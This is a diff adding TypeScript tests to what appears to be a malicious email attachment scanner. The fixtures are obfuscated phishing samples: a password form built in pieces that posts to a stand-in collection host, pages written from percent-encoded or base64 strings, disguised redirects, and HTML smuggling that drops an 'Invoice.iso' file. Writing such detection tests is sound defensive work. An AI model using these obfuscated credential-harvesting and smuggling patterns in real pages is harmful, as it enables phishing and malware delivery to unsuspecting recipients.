@@ -49,6 +49,47 @@ describe('pages whatever their encoding or first tag', () => {
   });
 });
 
+describe('pages a script builds from its own strings', () => {
+  it('reads a form written into innerHTML in pieces, with the action the script gives it', async () => {
+    const page = `<div id="r"></div><script>var f=document.createElement('form');f.action='https://collect.example/auth.php';f.innerHTML='<inp'+'ut name=u><inp'+'ut type=pass'+'word name=p>';document.getElementById('r').appendChild(f);</script>`;
+    assert.ok((await found(attachment('invoice.html', page))).includes('ATTACH_HTML_FORM'));
+    assert.ok((await linksOf(attachment('invoice.html', page))).includes('https://collect.example/auth.php'));
+  });
+
+  it('reads a page the script writes from a percent-encoded or base64 string', async () => {
+    const encoded = `<script>var x=unescape("${[...Buffer.from(LOGIN_FORM)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}");document.write(x);</script>`;
+    assert.ok((await found(attachment('invoice.html', encoded))).includes('ATTACH_HTML_FORM'));
+    const base64 = `<script>var d="${Buffer.from(LOGIN_FORM).toString('base64')}";document.body.innerHTML=window["at"+"ob"](d);</script>`;
+    const codesFound = await found(attachment('invoice.html', base64));
+    assert.ok(codesFound.includes('ATTACH_HTML_FORM') && codesFound.includes('ATTACH_HTML_SMUGGLING'), codesFound.join());
+  });
+
+  it('follows a short script to the one address it builds, in a variable or encoded', async () => {
+    const variable = '<script>var u="https://collect.example/"+"doc?id=88";window.location.href=u;</script>';
+    assert.ok((await linksOf(attachment('invoice.html', variable))).includes('https://collect.example/doc?id=88'));
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var d="${Buffer.from('https://collect.example/m').toString('base64')}"; var t=window; t["loc"+"ation"]["href"]=t["at"+"ob"](d);]]></script></svg>`;
+    assert.ok((await found(attachment('invoice.svg', svg))).includes('ATTACH_HTML_REDIRECT'));
+  });
+
+  it('reads smuggling spelled in pieces', async () => {
+    const page = '<script>var w=window,k="at"+"ob";var b=new w.Blob([w[k]("QUJD")]);var a=document.createElement("a");a.href=w.URL["createObject"+"URL"](b);a["down"+"load"]="Invoice.i"+"so";a.click();</script>';
+    assert.ok((await found(attachment('invoice.html', page))).includes('ATTACH_HTML_SMUGGLING'));
+  });
+
+  it('reads a script built to be slow in one pass: an unclosed string full of escaped quotes, a thousand joins', async () => {
+    for (const script of [`"${'a\\"'.repeat(300_000)}`, `"a"${'+"a"'.repeat(300_000)}`, `w${'["ab"]'.repeat(200_000)}`]) {
+      const started = performance.now();
+      await found(attachment('slow.html', `<html><body><script>${script}</script></body></html>`));
+      assert.ok(performance.now() - started < 2_000, script.slice(0, 12));
+    }
+  });
+
+  it('does not take a page script that compares or builds many addresses for a redirect', async () => {
+    const menu = '<script>if (location.href == "https://shop.example/") { show(); } var pages = ["https://shop.example/a", "https://shop.example/b"]; function go(i) { location.href = pages[i]; }</script><p>Menu</p>';
+    assert.deepEqual(await found(attachment('menu.html', menu)), ['ATTACH_HTML']);
+  });
+});
+
 describe('saved web pages', () => {
   const mhtml = (encoding: 'base64' | 'quoted-printable') => {
     const page = `<html><body>${LOGIN_FORM}</body></html>`;
